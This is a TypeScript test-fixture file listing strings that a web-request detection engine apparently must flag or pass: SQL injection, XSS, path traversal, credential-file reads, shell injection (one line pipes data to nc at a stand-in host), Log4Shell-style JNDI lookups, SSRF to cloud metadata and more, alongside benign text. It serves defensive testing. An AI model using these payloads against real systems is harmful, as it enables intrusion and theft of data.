/** A text, where it stands, and what the engine says of it. Own examples; a change of a verdict here is a decision. */
export interface Example {
  readonly text: string;
  readonly place: 'query' | 'path' | 'header' | 'json' | 'form';
  readonly name?: string;
  readonly verdict: string | undefined;
}

const each = (
  verdict: string | undefined,
  place: Example['place'],
  texts: readonly string[],
  name?: string,
): Example[] => texts.map((text) => ({ text, place, verdict, ...(name === undefined ? {} : { name }) }));

export const EXAMPLES: readonly Example[] = [
  ...each('sqli', 'query', [
    "1' OR '1'='1' -- ",
    '0 UNION SELECT username, password FROM users--',
    "x'; drop table carts; --",
    '5 and sleep(9)',
  ]),
  ...each('sqli', 'form', ["'; DROP TABLE users;--", "admin'--", "a' or 'b'='b"]),
  ...each('xss', 'json', [
    '<img src=x onerror=alert(1)>',
    '<script>alert(document.cookie)</script>',
    '"><svg onload=x()>',
    'javascript:alert(1)',
  ]),
  ...each('path-traversal', 'query', ['../../../../x', '..%2f..%2fx'], 'page'),
  ...each('file-access', 'query', ['../../../../etc/passwd', '/etc/shadow', 'file:///etc/passwd'], 'file'),
  ...each('shell', 'query', ['; cat /tmp/x | nc 203.0.113.5 4444', '$(id)', '|whoami', '`uname -a`']),
  ...each('jndi', 'header', ['${jndi:ldap://203.0.113.5/a}', '${${lower:j}ndi:dns://a}']),
  ...each(
    'ssrf',
    'json',
    ['http://169.254.169.254/latest/meta-data/', 'http://2130706433/', 'gopher://127.0.0.1:25/'],
    'url',
  ),
  ...each('open-redirect', 'query', ['//h.example', '/\\h.example'], 'next'),
  ...each('template', 'query', ['{{7*7}}', '${9*9}', '{{config.items()}}']),
  ...each('php', 'query', ['<?php phpinfo();', 'php://filter/resource=x', 'O:3:"Foo":0:{}']),
  ...each('nosqli', 'json', ["';return true;var a='", "', $where: '1'"]),
  ...each('ldap', 'query', ['*)(uid=*', 'x)(|(cn=*']),
  ...each('xxe', 'json', ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>']),
  ...each('ssi', 'query', ['<!--#exec cmd="id"-->']),
  ...each(undefined, 'query', [
    'blue suede shoes',
    "O'Reilly & sons",
    'select a colour from the list',
    'union of two sets',
    'C++ or C#?',
    '10" x 12"',
    '5 < 6',
    'fish & chips',
    'Müller; Söhne',
    '東京 (日本)',
    'a/b testing',
    'ann@example.com',
    '2026-11-24T10:00:00Z',
    '550e8400-e29b-41d4-a716-446655440000',
  ]),
  ...each(undefined, 'json', [
    "Don't drop the table: it's heavy! 5 > 3 && 2 < 4. See https://example.com/a?b=1",
    'Cup & saucer',
    'having friends over is nice',
    'At the store',
    'take a left (1 mile)',
    'select a union rep from the list',
    '„Wir kommen“, sagte sie; „um 5“.',
    '这是一个 select 语句的说明，请看；更多 from 这里',
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
  ]),
  ...each(undefined, 'json', ['http://localhost:3000/callback'], 'redirect_uri'),
  ...each(undefined, 'header', [
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0 Safari/537.36',
    'text/html;q=0.9, */*;q=0.8',
  ]),
  ...each(undefined, 'path', ['how-to-select-the-right-union-plan', 'a%20b', 'é', '@scope', 'v1.2.3', 'O%27Neill']),
];
